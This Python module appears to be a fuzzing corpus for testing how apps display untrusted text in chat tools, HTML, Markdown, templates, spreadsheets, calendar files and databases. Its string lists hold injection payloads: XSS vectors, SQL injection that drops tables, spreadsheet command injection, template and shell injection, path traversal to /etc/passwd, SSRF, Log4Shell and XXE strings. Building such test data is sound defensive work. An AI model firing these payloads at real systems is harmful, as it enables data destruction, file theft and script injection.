"""Strings that try to be more than text, for every place text is shown in.

`CLASSICS` are written by hand, by what they try to reach; `corpus()` adds every way out of a context before every
payload that would do harm outside it. The same list at every run.
"""

from __future__ import annotations

from itertools import product

CLASSICS: dict[str, tuple[str, ...]] = {
    "slack": (
        *("<!channel>", "<!here>", "<!everyone>", "<!channel|kanal>", "<!subteam^S012AB3CD>", "<@U1>", "<@U012AB3CD|jonas>"),
        *("<#C012AB3CD>", "<#C012AB3CD|almen>", "<!date^1392734382^{date}|i dag>", "&lt;!channel&gt;", "&amp;lt;!here&amp;gt;"),
        *("<http://x.example|klik her>", "<https://x.example>", "<mailto:a@x.example|skriv>", "<tel:+4522334455|ring>"),
        *("<javascript:alert(1)|klik>", "&<>", "&", "<", ">", "<!", "<@", "<>", "<<@U1>>", "<@U1", "@channel", "@here", "#almen"),
        *("*fed*", "_kursiv_", "~streget~", "`kode`", "```blok```", "*_~`alt`~_*", "> citat", ">>> langt citat", "&gt; citat"),
        *(":tada:", ":+1::skin-tone-2:", "• punkt", "1. først", "*ikke fed", "a*b*c", "snake_case_navn", "2 * 3 * 4", "~", "``"),
    ),
    "discord": (
        *("@everyone", "@here", "<@1>", "<@!1>", "<@&1>", "<#1>", "<t:0>", "<t:1799999999:R>", "</samspil:1>", "<id:guide>"),
        *("<:navn:1>", "<a:navn:1>", "<id:customize>", "@\u200beveryone", "[klik](https://x.example)", "[klik](<https://x.example>)"),
        *("[https://bank.example](https://x.example)", "[a](https://x.example \"titel\")", "[a][b]", "![billede](https://x.example/a.png)"),
        *("**fed**", "*kursiv*", "***begge***", "__streg__", "~~væk~~", "||skjult||", "`kode`", "```js\nblok\n```", "> citat", ">>> citat"),
        *("# stor", "## mindre", "### mindst", "-# lille", "- punkt", "* punkt", "+ punkt", "1. først", "  - inde", "\\*", "\\\\*fed*"),
        *("https://x.example/a_b_c*d*", "<https://x.example>", "http://x.example/?a=<@1>", "https://x.example/)(", "discord.gg/abcdef"),
        *("steam://run/1", "_a_b_", "**åben", "a_b_c", "*", "**", "|| ||", "`", "``` ```", "\\", "\\`", "_ _", "-# ", "#", "1.", "12) ja"),
    ),
    "markdown": (
        *("[a](javascript:alert(1))", "![x](x onerror=alert(1))", "<https://x.example>", "[x]: https://x.example", "| a | b |", "---"),
        *("***", "===", "    indrykket", "~~~\nkode\n~~~", "$$x^2$$", "- [x] gjort", "<!-- skjult -->", "[^1]", "&nbsp;&#35;", "a  \nb"),
        *("Overskrift\n===", "Overskrift\n---", "\\# nej", "*a_b*c_", "==mærket==", "H~2~O", "[[wiki]]", ":::note", "+++", "<br>", "<details>"),
    ),
    "html": (
        *("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//x.example>", "<scr<script>ipt>alert(1)</script>"),
        *("<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>"),
        *("<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=x>", "<base href=//x>"),
        *("<link rel=stylesheet href=//x>", "<meta http-equiv=refresh content=0;url=//x>", "<style>*{display:none}</style>", "<a href=//x>a</a>"),
        *("<form action=//x><input name=csrf>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        *("<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>"),
        *("&lt;script&gt;", "&#60;script&#62;", "&#x3c;img&#x3e;", "&amp;amp;", "&quot;", "&apos;", "&nbsp", "&bogus;", "%3Cscript%3E", "\\u003cscript\\u003e"),
        *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//x.example"),
        *("<!--", "-->", "<![CDATA[", "]]>", "<?php echo 1 ?>", "<%= 1 %>", "</html>", "</body>", "<plaintext>", "<xmp>", "<template>", "<slot>"),
        *("expression(alert(1))", "url(javascript:alert(1))", "}*{color:red", "@import '//x'", "</style><script>alert(1)</script>"),
        *("<p id=feed>", "<input id=csrf name=csrf value=x>", "<div data-action=mydata/erased/1>", "<a data-close>x</a>", "<dialog open>"),
        *("<button name=press value=mydata/erased/1>x</button>", "<script type=module>import('//x')</script>", "<portal src=//x>"),
    ),
    "template": (
        *("{{7*7}}", "{{ config }}", "{% raw %}", "{# nej #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}", "[[${7*7}]]"),
        *("%s", "%d%n", "%(name)s", "%(person)s", "%", "%%", "100 % sikker", "{}", "{0}", "{name}", "{0.__class__}", "$HOME", "`id`", "$(id)"),
        *("%x%x%x", "%1$s", "{{constructor.constructor('alert(1)')()}}", "@(1+1)", "*{7*7}", "{{=<% %>=}}", "!{7}", "~{::x}", "**%(name)s**"),
    ),
    "sheet": (
        *("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://x.example\",\"klik\")", "\t=1+1", "\r=1+1", "\n=1+1"),
        *('"=1+1', "'=1+1", ";=1+1", ",=1+1", '","x', '"",""', "=IMPORTXML(1)", "＝1+1", "|calc", "%0A=1+1", " =1+1", "0x1", "1e5", "007", "-"),
    ),
    "calendar": (
        *("a\r\nEND:VEVENT", "a\nBEGIN:VEVENT", "x\r\nATTENDEE:mailto:a@x.example", "a\\nb", "a\\;b\\,c", "a;b,c", "a:b", "\\", "\\\\n", ";X=1:y"),
        *("x\r\n y", "x\n\ty", "END:VCALENDAR\r\nBEGIN:VCALENDAR", "\rATTACH:http://x.example", "\x85URL:x", "\u2028URL:x", "\u2029URL:x", '"', "^n", "=0D=0A"),
        *("æ" * 80, "x" * 74 + "å", "🙂" * 25, "DTSTART:19700101", "RRULE:FREQ=SECONDLY", "BEGIN:VALARM\nACTION:AUDIO", "\x0bURL:x", "\x0cURL:x", "a\\"),
    ),
    "database": (
        *("' OR '1'='1", "'; DROP TABLE person; --", "\" OR \"\"=\"", "1; DELETE FROM team", "') OR ('1'='1", "' UNION SELECT * FROM person --"),
        *("%' OR 1=1 --", "\\'; --", "/*", "*/", "--", "#", ";", "$1", ":name", "?", "::text", "E'\\x00'", "pg_sleep(5)", "0x27", "''", "\\x27"),
    ),
    "other systems": (
        *("*)(uid=*))(|(uid=*", "admin)(&)", "*", "(cn=*)", "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "....//....//"),
        *("%2e%2e%2f", "CON", "NUL.txt", "a/b", "a\\b", "a:b", ".htaccess", "~root", "$(touch x)", "`touch x`", "| touch x", "&& touch x", "; touch x"),
        *("a\r\nSet-Cookie: x=1", "a\r\n\r\n<script>", "a\nLocation: //x", "%0d%0aX: y", "a\r\nBcc: a@x.example", "X-A: 1\r\n\r\n", "\r\n.\r\n", "=?utf-8?q?x?="),
        *("http://169.254.169.254/", "http://[::1]/", "gopher://x", "ldap://x", "${jndi:ldap://x/a}", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]>&y;"),
        *("__proto__", "constructor", "toString", "null", "undefined", "NaN", "true", "0", "-0", "[]", "{\"a\":1}", "\"", "\\u0000", "None", "__import__('os')"),
    ),
    "unicode": (
        *("a\x00b", "\x00", "\ud800", "a\udfffb", "\ud83d alene", "\ufeffBOM", "\ufffe", "\uffff", "a\u200bb", "\u2060", "\u00ad", "a\u034fb", "\u180e"),
        *("\u202evendt", "\u202dvenstre", "\u2066isoleret\u2069", "\u200fhøjre", "\u061c", "user\u202egnp.exe", "\u2067\u2067\u2067", "\u206a", "\ufff9a\ufffab\ufffb"),
        *("Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA", "e" + "\u0301" * 300, "\u0e2d" + "\u0e49" * 50),
        *("👩🏽‍⚕️", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇰", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️‍🔥", "🙂" * 50, "‍", "👩‍", "\u20e3", "1️⃣", "😀\ufe0e", "hej\U000e0068\U000e0069", "\U000f0000"),
        *("ش" * 30, "שלום עולם", "مرحبا <@U1>", "می\u200cخواهم", "नमस्ते", "ภาษาไทย", "日本語テキスト", "ﷺ" * 10, "ﬁ", "Å", "A\u030a", "ǅ", "ß", "ſ", "K", "İ", "ı"),
        *("x" * 1000, "ø" * 800, "hej " * 200, "ord\n" * 60, "\n" * 5 + "a", "\t\t a \t", "  foran", "bagefter  ", "a\u00a0b", "a\u3000b", "a\u2800b", "\u3164"),
        *("＜script＞alert(1)＜/script＞", "‹img›", "ʺ onclick=x", "´`‘’“”", "\u202e\u2066<@U1>\u2069", "\x1b[31mrød", "\x07", "\x08\x08\x08", "\x7f", "\x85", "\u2028", "\x1f"),
    ),
}  # fmt: skip

# Out of where the text stands …
EXITS = (
    *("", '"', "'", '">', "'>", "`", "</p>", "</textarea>", "</title>", "</option></select>", "</script>", "-->", "]]>", "\\", "\\\\"),
    *("*", "**", "_", "`", "```\n", "||", ")", "](", "> ", "\n", "\r\n", "&lt;", "|", "\n# "),
)  # fmt: skip
# … and then:
PAYLOADS = (
    *("<!channel>", "<@U1>", "@everyone", "<@1>", "[klik](https://x.example)", "<https://x.example|klik>"),
    *(
        "<img src=x onerror=alert(1)>",
        " onmouseover=alert(1) x=",
        "<script>alert(1)</script>",
        "javascript:alert(1)",
    ),
)


def corpus() -> tuple[str, ...]:
    """More than five hundred different strings, none of them longer than 1000 characters."""
    classics = (one for family in CLASSICS.values() for one in family)
    combined = ("".join(parts) for parts in product(EXITS, PAYLOADS))
    return tuple(dict.fromkeys((*classics, *combined)))
